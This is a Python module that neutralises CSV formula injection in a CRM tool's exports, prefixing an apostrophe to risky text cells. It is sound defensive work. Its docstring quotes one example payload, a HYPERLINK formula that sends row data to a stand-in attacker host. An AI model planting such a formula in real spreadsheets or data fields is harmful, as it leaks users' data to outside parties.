"""CSV that is safe to open in a spreadsheet: the one rule for every CSV crmlens writes.

A text cell that starts with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return is
run as a formula by Excel, LibreOffice and Google Sheets: a company named
``=HYPERLINK("https://evil.example/?"&A1, "open")`` in the CRM would become a live link
that leaks the row. OWASP's remedy ("CSV Injection") is applied: such a cell gets a
leading ``'``, which spreadsheets show as text. Numbers are left alone — numeric columns
are not text, and a text cell that is just a number (``-5``, ``+3.2e4``) cannot be a
formula. The dashboards' downloads and the CSV exports both go through
:func:`neutralise_formulas`.
"""

from __future__ import annotations

import polars as pl

FORMULA_START = r"^[=+\-@\t\r]"
_PLAIN_NUMBER = r"^[+-]?(\d+\.?\d*|\.\d+)([eE][+-]?\d+)?$"
_TEXT_TYPES = (pl.String, pl.Categorical, pl.Enum)


def neutralise_formulas(frame: pl.DataFrame) -> pl.DataFrame:
    """Prefix ``'`` to every text cell a spreadsheet would run as a formula.

    Args:
        frame: the rows about to be written as CSV (nested columns already flattened).

    Returns:
        The same rows, text columns as strings, with risky cells neutralised.
    """
    text = [name for name, dtype in frame.schema.items() if isinstance(dtype, _TEXT_TYPES)]
    cells = [pl.col(name).cast(pl.String) for name in text]
    return frame.with_columns(
        pl.when(cell.str.contains(FORMULA_START) & ~cell.str.contains(_PLAIN_NUMBER))
        .then(pl.lit("'") + cell)
        .otherwise(cell)
        .alias(name)
        for name, cell in zip(text, cells, strict=True)
    )
